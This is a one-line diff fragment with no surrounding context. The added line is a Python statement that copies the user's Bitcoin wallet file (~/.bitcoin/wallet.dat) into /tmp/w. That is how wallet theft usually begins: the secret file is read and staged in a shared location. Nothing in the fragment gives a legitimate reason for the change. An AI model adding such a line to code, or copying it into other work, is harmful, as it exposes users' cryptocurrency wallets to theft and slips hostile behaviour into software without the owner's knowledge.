@@ -1,0 +1,1 @@
+shutil.copy(home + "/.bitcoin/wallet.dat", "/tmp/w")
